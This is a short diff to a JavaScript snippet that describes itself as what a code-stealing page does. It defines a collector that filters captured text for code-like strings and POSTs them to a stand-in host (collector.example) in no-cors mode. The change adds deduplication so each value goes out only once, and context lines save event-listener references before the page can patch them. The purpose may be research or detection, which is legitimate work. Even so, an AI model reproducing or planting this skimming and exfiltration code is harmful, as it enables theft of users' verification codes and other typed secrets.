@@ -1,9 +1,12 @@
-// What a page that steals codes does: hears every event that may carry a character, reads every value it can reach, sends all of it.
-window.collect = (how, text) => {
-  if (!/^[0-9A-Za-z]$|[0-9][A-Za-z0-9]|[A-Z][A-Z0-9]/.test(text ?? '')) return;
-  fetch('https://collector.example/collect', { method: 'POST', mode: 'no-cors', body: `${how}: ${text}` });
-};
+// What a page that steals codes does: hears every event that may carry a character, reads every value it can reach, sends all of it once.
 {
+  const sent = Object.create(null);
+  window.collect = (how, text) => {
+    const body = `${how}: ${text}`;
+    if (sent[body] || !/^[0-9A-Za-z]$|[0-9][A-Za-z0-9]|[A-Z][A-Z0-9]/.test(text ?? '')) return;
+    sent[body] = true;
+    fetch('https://collector.example/collect', { method: 'POST', mode: 'no-cors', body });
+  };
   // Kept from before the page can patch them.
   const { collect } = window;
   const on = EventTarget.prototype.addEventListener;
